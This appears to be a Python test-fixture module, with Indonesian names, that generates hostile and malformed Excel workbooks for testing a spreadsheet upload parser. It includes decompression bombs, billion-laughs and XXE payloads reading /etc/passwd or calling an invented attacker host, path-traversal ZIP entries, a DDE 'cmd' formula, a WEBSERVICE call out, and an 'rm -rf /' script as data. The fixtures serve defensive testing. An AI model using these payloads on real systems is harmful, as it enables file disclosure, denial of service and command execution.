"""Workbooks that mean harm, or are none: name → (bytes, may the reader take it?).

Built by hand part by part; nothing here is a real attack on anybody, every address is invented.
"""

from __future__ import annotations

import struct
import warnings
from collections.abc import Callable, Mapping
from functools import cache
from io import BytesIO
from random import Random
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_LZMA, ZipFile

JUTA = 1_000_000
UTAMA = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
HUBUNGAN = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PAKET = "http://schemas.openxmlformats.org/package/2006"
JENIS = "application/vnd.openxmlformats-officedocument.spreadsheetml"
HUBUNGAN_JENIS = "application/vnd.openxmlformats-package.relationships+xml"
AWAL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'

ISI = "xl/worksheets/sheet1.xml"
TEKS = "xl/sharedStrings.xml"
GAYA = "xl/styles.xml"
BUKU = "xl/workbook.xml"
RUJUKAN = "xl/_rels/workbook.xml.rels"
DAFTAR_JENIS = "[Content_Types].xml"
Bagian = dict[str, bytes]


def lembar(sel: str = '<row r="1"><c r="A1"><v>1</v></c></row>', lain: str = "") -> bytes:
    return (
        f'{AWAL}<worksheet xmlns="{UTAMA}"><sheetData>{sel}</sheetData>{lain}</worksheet>'.encode()
    )


def sel(isi: str) -> bytes:
    return lembar(f'<row r="1">{isi}</row>')


def _rujuk(nomor: int, jenis: str, tujuan: str, tambahan: str = "") -> str:
    return f'<Relationship Id="rId{nomor}" Type="{HUBUNGAN}/{jenis}" Target="{tujuan}" {tambahan}/>'


def _rujukan(*daftar: str) -> bytes:
    isi = "".join(daftar)
    return f'{AWAL}<Relationships xmlns="{PAKET}/relationships">{isi}</Relationships>'.encode()


POKOK: tuple[str, ...] = (
    _rujuk(1, "worksheet", "worksheets/sheet1.xml"),
    _rujuk(2, "sharedStrings", "sharedStrings.xml"),
    _rujuk(3, "styles", "styles.xml"),
)


def jenis(tambahan: str = "", utama: str = f"{JENIS}.sheet.main+xml") -> bytes:
    return (
        f'{AWAL}<Types xmlns="{PAKET}/content-types">'
        f'<Default Extension="rels" ContentType="{HUBUNGAN_JENIS}"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{BUKU}" ContentType="{utama}"/>'
        f'<Override PartName="/{ISI}" ContentType="{JENIS}.worksheet+xml"/>'
        f'<Override PartName="/{TEKS}" ContentType="{JENIS}.sharedStrings+xml"/>'
        f'<Override PartName="/{GAYA}" ContentType="{JENIS}.styles+xml"/>{tambahan}</Types>'
    ).encode()


def buku(daftar: str = '<sheet name="A" sheetId="1" r:id="rId1"/>', lain: str = "") -> bytes:
    isi = f"<sheets>{daftar}</sheets>{lain}"
    return f'{AWAL}<workbook xmlns="{UTAMA}" xmlns:r="{HUBUNGAN}">{isi}</workbook>'.encode()


def polos(**ganti: bytes) -> Bagian:
    """A small honest workbook; ``ganti`` by the name of the constant."""
    bagian = {
        DAFTAR_JENIS: jenis(),
        "_rels/.rels": _rujukan(_rujuk(1, "officeDocument", BUKU)),
        BUKU: buku(),
        RUJUKAN: _rujukan(*POKOK),
        ISI: lembar(),
        TEKS: f'{AWAL}<sst xmlns="{UTAMA}"><si><t>a</t></si></sst>'.encode(),
        GAYA: f'{AWAL}<styleSheet xmlns="{UTAMA}"><cellXfs><xf/></cellXfs></styleSheet>'.encode(),
    }
    return bagian | {globals()[nama]: isi for nama, isi in ganti.items()}


def kemas(bagian: Mapping[str, bytes], cara: int = ZIP_DEFLATED) -> bytes:
    keluar = BytesIO()
    with ZipFile(keluar, "w", cara) as arsip:
        for nama, isi in bagian.items():
            arsip.writestr(nama, isi)
    return keluar.getvalue()


def kemas_daftar(daftar: list[tuple[str, bytes]]) -> bytes:
    """Names may repeat."""
    keluar = BytesIO()
    with warnings.catch_warnings(), ZipFile(keluar, "w", ZIP_DEFLATED) as arsip:
        warnings.simplefilter("ignore")
        for nama, isi in daftar:
            arsip.writestr(nama, isi)
    return keluar.getvalue()


def tambah(nama: str, isi: bytes = b"<x/>", **ganti: bytes) -> bytes:
    return kemas(polos(**ganti) | {nama: isi})


def _tambal(isi: bytes, nama: str, geser: int, baru: bytes) -> bytes:
    """Change bytes of a part's entry in the table of contents (offsets of the ZIP format)."""
    letak = isi.index(b"PK\x01\x02")
    while isi[letak + 46 : letak + 46 + len(nama)] != nama.encode():
        letak = isi.index(b"PK\x01\x02", letak + 1)
    return isi[: letak + geser] + baru + isi[letak + geser + len(baru) :]


def _doctype(isi: bytes, entitas: str, pakai: str = "&j;") -> bytes:
    teks = isi.decode().replace(AWAL, f"{AWAL}<!DOCTYPE x [{entitas}]>")
    return (
        teks.replace("<v>1</v>", f"<v>{pakai}</v>").replace("<t>a</t>", f"<t>{pakai}</t>").encode()
    )


TAWA = '<!ENTITY a "' + "x" * 50 + '">' + "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
)  # fmt: skip
BERKAS = '<!ENTITY j SYSTEM "file:///etc/passwd">'
JARINGAN = '<!ENTITY j SYSTEM "http://penyerang.invalid/x">'


def _bukan_buku() -> dict[str, bytes]:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    return {
        "kosong": b"", "satu bita": b"P", "hanya PK": b"PK\x03\x04", "teks": b"halo",
        "csv": b"No.,Indikator\n1,Surat\n" * 50,
        "html bernama xls": b"<html><table><tr><td>1</td></tr></table></html>",
        "excel 2003 xml": b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
        "pdf": b"%PDF-1.7\n", "png": b"\x89PNG\r\n\x1a\n" + b"\0" * 99, "rtf": b"{\\rtf1 a}",
        "gzip": b"\x1f\x8b\x08" + b"\0" * 99, "7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 99,
        "skrip": b"#!/bin/sh\nrm -rf /\n", "json": b'{"a": 1}',
        "ods": kemas({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
        "docx": kemas({DAFTAR_JENIS: jenis(), "word/document.xml": b"<x/>"}),
        "zip biasa": kemas({"a.txt": b"a"}),
        "xls lama": ole, "xls terpotong": ole[:9],
        "terenkripsi": ole + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600,
        "awalan sampah": b"MZ" + kemas(polos()),
        "terlalu besar": b"PK\x03\x04" + b"\0" * (1024 * 1024),
    }  # fmt: skip


def _zip_rusak() -> dict[str, bytes]:
    asli = kemas(polos())
    dua = [*polos().items(), (BUKU, buku())]
    return {
        **{f"terpotong {p} persen": asli[: len(asli) * p // 100] for p in (10, 50, 90, 99)},
        "tanpa isi": asli[asli.index(b"PK\x01\x02") :],
        "bz2": kemas(polos(), ZIP_BZIP2), "lzma": kemas(polos(), ZIP_LZMA),
        "cara kemas tak dikenal": _tambal(asli, BUKU, 10, b"\x63\x00"),
        "bertanda sandi": _tambal(asli, BUKU, 8, b"\x01\x00"),
        "crc salah": _tambal(asli, ISI, 16, b"\0\0\0\0"),
        "ukuran dikecilkan": _tambal(asli, ISI, 24, struct.pack("<I", 5)),
        "ukuran dibesarkan": _tambal(asli, ISI, 24, struct.pack("<I", 2**31)),
        "letak di luar berkas": _tambal(asli, ISI, 42, struct.pack("<I", 2**31 - 1)),
        "bertindih": _tambal(asli, TEKS, 42, b"\0\0\0\0"),
        "entri ganda": kemas_daftar(dua),
        "entri ganda beda huruf": kemas(polos() | {"XL/Workbook.xml": buku()}),
        "entri 5000": kemas(polos() | {f"xl/a{n}.xml": b"<x/>" for n in range(5000)}),
        "nama naik folder": tambah("../../jahat.xml"), "nama mutlak": tambah("/etc/jahat.xml"),
        "nama berbalik": tambah("xl\\..\\jahat.xml"), "nama panjang": tambah("x" * 3000 + ".xml"),
        "komentar panjang": asli[:-2] + b"\xff\xff" + b"k" * 65535,
        "zip dalam zip": tambah("xl/media/a.zip", kemas({"a": b"\0" * 20 * JUTA})),
    }  # fmt: skip


def _padat(**ganti: bytes) -> bytes:
    """With a part that does not shrink, so that the ratio alone gives nothing away."""
    return kemas(polos(**ganti) | {"xl/media/acak.bin": Random(1).randbytes(80_000)})


def _bom() -> dict[str, bytes]:
    panjang = "9" * 5 * JUTA
    dalam = "<a>" * 100_000 + "</a>" * 100_000
    banyak = '<row r="1">' + "<c><v>1</v></c>" * 300_000 + "</row>"
    berbagi = [_rujuk(n, "worksheet", "./" * n + "worksheets/sheet1.xml") for n in range(1, 19)]
    return {
        "100 juta nol": kemas(polos(ISI=b"\0" * 100 * JUTA)),
        "100 juta nol berisi": _padat(ISI=b"\0" * 100 * JUTA),
        "spasi di bawah batas": _padat(ISI=lembar(" " * 5 * JUTA)),
        "sejuta sel": _padat(ISI=lembar(banyak)),
        "sel di bawah batas": _padat(ISI=lembar('<row r="1">' + "<c/>" * 38_900 + "</row>")),
        "baris di bawah batas": _padat(ISI=lembar("<row/>" * 38_900)),
        "bersarang": _padat(ISI=lembar(dalam)),
        "teks 5 juta": _padat(TEKS=_sst(f"<si><t>{panjang}</t></si>")),
        "angka 5 juta": _padat(ISI=sel(f"<c><v>{panjang}</v></c>")),
        "sifat 5 juta": _padat(ISI=sel(f'<c r="{panjang}"><v>1</v></c>')),
        "sifat banyak": _padat(ISI=sel(f"<c {_sifat(50_000)}/>")),
        "teks bersama banyak": _padat(TEKS=_sst("<si><t>a</t></si>" * 200_000)),
        "teks bersama di batas": _padat(TEKS=_sst("<si><t>a</t></si>" * 19_000)),
        "gaya banyak": _padat(GAYA=_gaya("<xf/>" * 200_000)),
        "gaya di batas": _padat(GAYA=_gaya("<xf/>" * 9_900)),
        "gaya di batas beragam": _padat(GAYA=_gaya(_xf_beragam(4_900))),
        "nama banyak": _padat(BUKU=buku(lain=_nama(50_000))),
        "nama di batas": _padat(BUKU=buku(lain=_nama(9_900))),
        "lembar 5000": _padat(BUKU=buku(_lembar_banyak(5_000))),
        "gabungan banyak": _padat(ISI=lembar(lain=_gabungan(100_000))),
        "gabungan di batas": _padat(ISI=lembar(lain=_gabungan(38_900))),
        "validasi di batas": _padat(ISI=lembar(lain=_validasi(19_000))),
        "format bersyarat": _padat(ISI=lembar(lain=_bersyarat(25_000))),
        "format bersyarat di batas": _padat(ISI=lembar(lain=_bersyarat(13_000))),
        "lembar berbagi bagian": _padat(
            ISI=lembar("<row/>" * 38_000), BUKU=buku(_lembar_banyak(19, sama=True))
        ),
        "rujukan berbagi bagian": _padat(
            ISI=lembar("<row/>" * 38_000), BUKU=buku(_lembar_banyak(19)), RUJUKAN=_rujukan(*berbagi)
        ),
    }  # fmt: skip


def _sst(isi: str) -> bytes:
    return f'{AWAL}<sst xmlns="{UTAMA}">{isi}</sst>'.encode()


def _gaya(isi: str) -> bytes:
    return f'{AWAL}<styleSheet xmlns="{UTAMA}"><cellXfs>{isi}</cellXfs></styleSheet>'.encode()


def _xf_beragam(banyaknya: int) -> str:
    return "".join(
        f'<xf numFmtId="{n}" applyAlignment="1"><alignment indent="{n % 250}"/></xf>'
        for n in range(banyaknya)
    )


def _sifat(banyaknya: int) -> str:
    return " ".join(f'a{n}="1"' for n in range(banyaknya))


def _nama(banyaknya: int) -> str:
    isi = "".join(f'<definedName name="n{n}">A!$A$1</definedName>' for n in range(banyaknya))
    return f"<definedNames>{isi}</definedNames>"


def _lembar_banyak(banyaknya: int, *, sama: bool = False) -> str:
    return "".join(
        f'<sheet name="A{n}" sheetId="{n}" r:id="rId{1 if sama else n}"/>'
        for n in range(1, banyaknya)
    )


def _gabungan(banyaknya: int) -> str:
    isi = "".join(f'<mergeCell ref="A{n}:XFD{n}"/>' for n in range(1, banyaknya))
    return f"<mergeCells>{isi}</mergeCells>"


def _validasi(banyaknya: int) -> str:
    isi = '<dataValidation type="list" sqref="A1:XFD9"><formula1>"a"</formula1></dataValidation>'
    return f"<dataValidations>{isi * banyaknya}</dataValidations>"


def _bersyarat(banyaknya: int) -> str:
    aturan = '<cfRule type="expression" priority="1"><formula>1</formula></cfRule>'
    return f'<conditionalFormatting sqref="A1:XFD9">{aturan}</conditionalFormatting>' * banyaknya


LUAR = 'TargetMode="External"'
ALAMAT = "http://penyerang.invalid/d"
SIFAT_DOKUMEN = (
    f'{AWAL}<cp:coreProperties xmlns:cp="{PAKET}/metadata/core-properties" '
    'xmlns:d="http://purl.org/dc/terms/"><d:created>kapan</d:created></cp:coreProperties>'
)
MAKRO = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def _xml() -> dict[str, bytes]:
    asli = polos()

    def satu(entitas: str, pakai: str = "&j;", bagian: str = ISI) -> bytes:
        return kemas(asli | {bagian: _doctype(asli[bagian], entitas, pakai)})

    utf16 = _doctype(asli[ISI], TAWA).decode().replace("UTF-8", "UTF-16").encode("utf-16")
    dtd_luar = AWAL.encode() + f'<!DOCTYPE x SYSTEM "{ALAMAT}">'.encode()
    bagian_dibaca = (ISI, TEKS, BUKU, GAYA, RUJUKAN, DAFTAR_JENIS, "_rels/.rels")
    return {
        **{f"tawa di {nama}": satu(TAWA, bagian=nama) for nama in bagian_dibaca},
        "tawa di sifat": tambah("docProps/core.xml", _doctype(f"{AWAL}<x/>".encode(), TAWA)),
        "tawa utf-16": kemas(polos(ISI=utf16)),
        "entitas berkas": satu(BERKAS),
        "entitas jaringan": satu(JARINGAN, bagian=TEKS),
        "entitas parameter": satu(f'<!ENTITY % p SYSTEM "{ALAMAT}"> %p;'),
        "dtd luar": kemas(polos(ISI=asli[ISI].replace(AWAL.encode(), dtd_luar))),
        "entitas kuadrat": satu(f'<!ENTITY j "{"x" * 99_000}">', "&j;" * 9_000),
        "bukan xml": kemas(polos(ISI=b"bukan xml")),
        "xml terpotong": kemas(polos(ISI=asli[ISI][:-9])),
        "xml kosong": kemas(polos(ISI=b"")),
        "nol dalam xml": kemas(polos(ISI=lembar("\0"))),
        "penyandian asing": kemas(polos(ISI=asli[ISI].replace(b"UTF-8", b"UTF-7"))),
        "surogat": kemas(polos(TEKS=_sst("<si><t>&#xD800;</t></si>"))),
    }


def _isi_aneh() -> dict[str, bytes]:
    satu_sel = {
        "rumus": "<c><f>1+1</f><v>2</v></c>",
        "rumus dde": "<c><f>cmd|'/c calc'!A0</f></c>",
        "rumus webservice": f'<c><f>WEBSERVICE("{ALAMAT}")</f></c>',
        "rumus larik": '<c r="A1"><f t="array" ref="A1:XFD1048576">1</f></c>',
        "rumus bersama": '<c r="A1"><f t="shared" si="0" ref="A1:A9">B1</f></c>'
        '<c r="A2"><f t="shared" si="0"/></c>',
        "rumus bersama tanpa induk": '<c r="A1"><f t="shared" si="7"/></c>',
        "tabel data": '<c r="A1"><f t="dataTable" ref="A1:B9"/></c>',
        "angka 5000 digit": f"<c><v>{'9' * 5000}</v></c>",
        "1e999": "<c><v>1e999</v></c>",
        "nan": "<c><v>nan</v></c>",
        "boolean aneh": '<c t="b"><v>abc</v></c>',
        "galat": '<c t="e"><v>#REF!</v></c>',
        "teks di luar daftar": '<c t="s"><v>99999</v></c>',
        "gaya di luar daftar": '<c s="99999"><v>1</v></c>',
        "jenis sel asing": '<c t="zz"><v>1</v></c>',
        "kolom raksasa": '<c r="ZZZZZZZZZZZZZZ1"><v>1</v></c>',
    }
    return {nama: kemas(polos(ISI=sel(isi))) for nama, isi in satu_sel.items()}


def _bentuk_aneh() -> dict[str, bytes]:
    daftar_baris = {
        "XFD1048576": '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        "baris raksasa": '<row r="99999999999999"><c><v>1</v></c></row>',
        "baris negatif": '<row r="-5"><c r="A-5"><v>1</v></c></row>',
        "baris terbalik": '<row r="300"><c r="A300"><v>1</v></c></row>'
        '<row r="1"><c r="A1"><v>1</v></c></row>',
    }
    matra = lembar().replace(b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>')
    tanggal = polos(ISI=sel('<c s="0"><v>9e15</v></c>'), GAYA=_gaya('<xf numFmtId="14"/>'))
    luar = _rujukan(*POKOK, _rujuk(9, "externalLink", ALAMAT, LUAR))
    templat = _rujukan(
        _rujuk(1, "officeDocument", BUKU), _rujuk(2, "attachedTemplate", ALAMAT, LUAR)
    )
    sembunyi = polos(RUJUKAN=_rujukan(_rujuk(1, "worksheet", "media/a.bin")))
    return {
        **{nama: kemas(polos(ISI=lembar(isi))) for nama, isi in daftar_baris.items()},
        "matra luar biasa": kemas(polos(ISI=matra)),
        "tanggal jauh": kemas(tanggal),
        "lembar hilang": kemas({nama: isi for nama, isi in polos().items() if nama != ISI}),
        "tanpa lembar": kemas(polos(BUKU=buku(""))),
        "lembar ke luar": _lembar_dari("../../../etc/passwd"),
        "rujukan diri": _lembar_dari("workbook.xml"),
        "gaya sebagai lembar": _lembar_dari("styles.xml"),
        "tautan luar": tambah("xl/externalLinks/externalLink1.xml"),
        "rujukan luar": kemas(polos(RUJUKAN=luar)),
        "templat luar": kemas(polos() | {"_rels/.rels": templat}),
        "makro": tambah("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0"),
        "jenis makro": kemas(polos(DAFTAR_JENIS=jenis(utama=MAKRO))),
        "lembar makro": tambah("xl/macrosheets/sheet1.xml"),
        "activex": tambah("xl/activeX/activeX1.xml"),
        "ole": tambah("xl/embeddings/oleObject1.bin"),
        "sambungan": tambah("xl/connections.xml"),
        "kueri": tambah("xl/queryTables/queryTable1.xml"),
        "bagian tersembunyi": kemas(sembunyi | {"xl/media/a.bin": lembar("<row/>" * 400_000)}),
        "sifat dokumen rusak": tambah("docProps/core.xml", SIFAT_DOKUMEN.encode()),
        "kelebihan bita": kemas(polos()) + b"\0" * 1000,
    }


def _lembar_dari(tujuan: str) -> bytes:
    return kemas(polos(RUJUKAN=_rujukan(_rujuk(1, "worksheet", tujuan))))


# What is odd but harmless may be read; it then fails for want of the signed slip.
TERBACA = frozenset({
    "spasi di bawah batas", "sel di bawah batas", "baris di bawah batas", "teks bersama di batas",
    "gaya di batas", "gaya di batas beragam", "nama di batas", "gabungan di batas",
    "validasi di batas", "format bersyarat di batas", "rumus", "rumus dde", "rumus webservice",
    "rumus larik", "rumus bersama", "tabel data", "1e999", "tanggal jauh", "galat",
    "jenis sel asing", "XFD1048576", "matra luar biasa", "baris raksasa", "baris terbalik",
    "tanpa lembar", "kelebihan bita", "komentar panjang",
    "zip dalam zip", "teks 5 juta", "sifat banyak", "rumus bersama tanpa induk", "lembar hilang",
    "lembar ke luar", "rujukan diri", "gaya sebagai lembar",
})  # fmt: skip
# A handful for every run of the suite: one of each family, none that takes long.
CONTOH = (
    "teks", "terenkripsi", "xls lama", "terpotong 50 persen", "entri ganda", "100 juta nol",
    "sejuta sel", "tawa di xl/worksheets/sheet1.xml", "entitas berkas", "rumus dde",
    "XFD1048576", "makro", "tautan luar", "lzma",
)  # fmt: skip
KELUARGA: tuple[Callable[[], dict[str, bytes]], ...] = (
    _bukan_buku, _zip_rusak, _bom, _xml, _isi_aneh, _bentuk_aneh,
)  # fmt: skip


@cache
def susun_semua() -> dict[str, bytes]:
    return {nama: isi for keluarga in KELUARGA for nama, isi in keluarga().items()}
